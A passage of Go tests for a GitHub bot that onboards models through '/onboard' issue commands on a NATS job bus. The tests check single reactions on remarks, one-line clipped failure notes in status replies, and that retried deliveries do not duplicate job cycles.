	if len(bodies) != 1 || !strings.Contains(bodies[0], "comment `/onboard Qwen/Qwen3-0.6B` on issue #1.") {
		t.Errorf("replies on the pull request = %q, want one pointing to issue #1", bodies)
	}
}

// A remark on an idle job is carried out twice (parked, then sent once the
// burst has settled), and each pass used to put 👀 on it again.
func TestSettlingRemarkReactsOnce(t *testing.T) {
	r := newRig(t, 50*time.Millisecond)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	r.setJob(1, func(j *bus.Job) { j.Status, j.PR = bus.StatusWaitingReview, 50 })
	id := r.gh.AddComment(owner, repo, 50, maint, "rename x").ID
	r.send(feedback(50, id, "rename x"))
	if cs := r.cycles(1); len(cs) != 2 || cs[1].Kind != bus.KindFeedback {
		t.Fatalf("cycles = %+v, want the remark's feedback cycle", cs)
	}
	n := 0
	for _, q := range r.gh.Requests() {
		if q.Method == http.MethodPost && strings.HasSuffix(q.Path, fmt.Sprintf("/issues/comments/%d/reactions", id)) {
			n++
		}
	}
	if n != 1 {
		t.Errorf("%d reaction requests on the remark, want 1", n)
	}
}

// A failed cycle's note (a command's error output, written by the runner)
// went into replies as it was: several lines that could open a heading or a
// code block, up to 1,000 characters.
func TestStatusReplyQuotesAFailureNoteOnOneLine(t *testing.T) {
	r := newRig(t, -1)
	r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	note := "pytest failed:\n# FAILED test_x\n```\n" + strings.Repeat("E assert 1 == 2 ", 80)
	r.setJob(1, func(j *bus.Job) { j.Status, j.Note = bus.StatusFailed, note })
	r.send(bus.Command{Kind: bus.CmdStatus, Event: "issue_comment.created", InstallationID: 1, Issue: 1, Actor: maint,
		CommentID: r.gh.AddComment(owner, repo, 1, maint, "/onboard status").ID})
	bodies := r.bodies(1)
	reply := bodies[len(bodies)-1]
	if !strings.Contains(reply, "**failed** (pytest failed: # FAILED test_x ``` E assert") || strings.Contains(reply, "\n") ||
		len(reply) > 800 {
		t.Errorf("status reply = %q, want the note on one line, clipped", reply)
	}
}

// TestOnboardRetriedAfterItsCycleWasStaged: an onboard command whose first
// try staged the job's cycle but could not publish it (a NATS node lost) is
// tried again: the staged cycle goes out, and no second cycle is made.
func TestOnboardRetriedAfterItsCycleWasStaged(t *testing.T) {
	r := newRig(t, -1)
	id := r.send(onboard(1, maint, "Qwen/Qwen3-0.6B"))
	first := r.job(1)
	if first == nil || first.Cycle != 1 {
		t.Fatalf("job after onboarding = %+v, want cycle 1", first)
	}
	// As a first try whose publish went unanswered leaves it: cycle 1 still
	// in the outbox, the delivery not recorded as carried out. (The cycle
	// is on the stream: JetStream stores the copy published again once.)
	staged := bus.NextCycle(first, bus.KindOnboard, nil, id)
	staged.Number = 1
	r.setJob(1, func(j *bus.Job) { j.Outbox, j.Status = &staged, bus.StatusQueued })
	if err := r.res.Deliveries.Purge(context.Background(), bus.DeliveryKey(id)); err != nil {
		t.Fatal(err)
	}
	// The same delivery, redelivered.
	r.sendAs(bus.Command{Kind: bus.CmdOnboard, Event: "issues.opened", InstallationID: 1, Issue: 1, Actor: maint,
		ActorAssociation: "MEMBER", ModelID: "Qwen/Qwen3-0.6B", DeliveryID: id}, id+"-again")
	var got []int
	for _, c := range r.cycles(1) {
		got = append(got, c.Number)
	}
	if !slices.Equal(got, []int{1}) {
		t.Errorf("cycles on the stream = %v, want [1]", got)
	}
	if j := r.job(1); j.Cycle != 1 || j.Outbox != nil {
		t.Errorf("job = cycle %d, outbox %+v; want cycle 1, published", j.Cycle, j.Outbox)
	}
}
